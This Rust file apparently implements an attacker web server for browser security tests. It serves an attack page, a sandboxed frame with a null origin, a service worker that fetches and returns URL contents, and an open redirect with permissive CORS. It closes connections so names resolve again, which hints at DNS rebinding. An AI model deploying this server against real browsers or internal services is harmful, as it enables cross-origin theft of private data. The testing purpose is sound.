//! The web server of the attacker.

use std::{io, net::SocketAddr};

use axum::{
    Router,
    extract::Query,
    http::{StatusCode, header},
    response::Html,
    routing::get,
};
use serde::Deserialize;
use tokio::{net::TcpListener, task::JoinHandle};

/// The attacking page. All origins serve this one.
pub const PAGE: &str =
    concat!("<!doctype html><title>page</title><body><script>", include_str!("attacks.js"), "</script>");

/// The same page in a sandboxed frame. Its origin is opaque: its requests have `Origin: null`.
const SANDBOX: &str = r#"<!doctype html><iframe sandbox="allow-scripts allow-forms" src="/"></iframe>"#;

/// A service worker that fetches a URL for the page, and returns what it could read.
const WORKER: &str = "
    onactivate = (event) => event.waitUntil(clients.claim());
    onmessage = ({ data, ports: [port] }) =>
        fetch(data).then((response) => response.text()).then(
            (text) => port.postMessage(text),
            () => fetch(data, { mode: 'no-cors' }).finally(() => port.postMessage(null)),
        );
";

#[derive(Deserialize)]
struct Redirect {
    status: u16,
    to: String,
}

/// The running server. Drop ends it.
#[derive(Debug)]
pub struct AttackerServer {
    port: u16,
    task: JoinHandle<()>,
}

impl AttackerServer {
    /// Serves at `address`. Port 0 lets the system choose.
    ///
    /// # Errors
    /// The address is in use.
    pub async fn serve(address: SocketAddr) -> io::Result<Self> {
        let listener = TcpListener::bind(address).await?;
        let port = listener.local_addr()?.port();
        // No connection stays open, so that the next request resolves the name again.
        let close = [(header::CONNECTION, "close")];
        let router = Router::new()
            .route("/", get(async move || (close, Html(PAGE))))
            .route("/sandboxed", get(async || Html(SANDBOX)))
            .route("/worker.js", get(async || ([(header::CONTENT_TYPE, "text/javascript")], WORKER)))
            .route("/redirect", get(redirect).post(redirect));
        let task = tokio::spawn(async move { axum::serve(listener, router).await.unwrap_or_default() });
        Ok(Self { port, task })
    }

    /// Its port.
    #[must_use]
    pub fn port(&self) -> u16 {
        self.port
    }
}

impl Drop for AttackerServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn redirect(Query(redirect): Query<Redirect>) -> (StatusCode, [(header::HeaderName, String); 2]) {
    let status = StatusCode::from_u16(redirect.status).unwrap_or(StatusCode::FOUND);
    // The page's own server allows the page to follow the redirect.
    (status, [(header::LOCATION, redirect.to), (header::ACCESS_CONTROL_ALLOW_ORIGIN, "*".to_owned())])
}
